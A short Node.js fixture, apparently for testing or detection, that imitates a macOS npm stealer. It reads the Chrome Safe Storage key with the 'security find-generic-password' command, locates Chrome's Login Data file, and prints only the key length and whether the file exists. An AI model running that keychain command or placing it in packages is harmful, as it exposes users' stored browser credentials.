// Mimics a macOS npm stealer: fetch the Chrome Safe Storage key, then copy Login Data (defanged: prints only).
const { execSync } = require('child_process');
const fs = require('fs');
const path = require('path');
const os = require('os');
const key = execSync('security find-generic-password -wa "Chrome Safe Storage"').toString().trim();
const db = path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Login Data');
console.log('fixture', key.length, fs.existsSync(db));
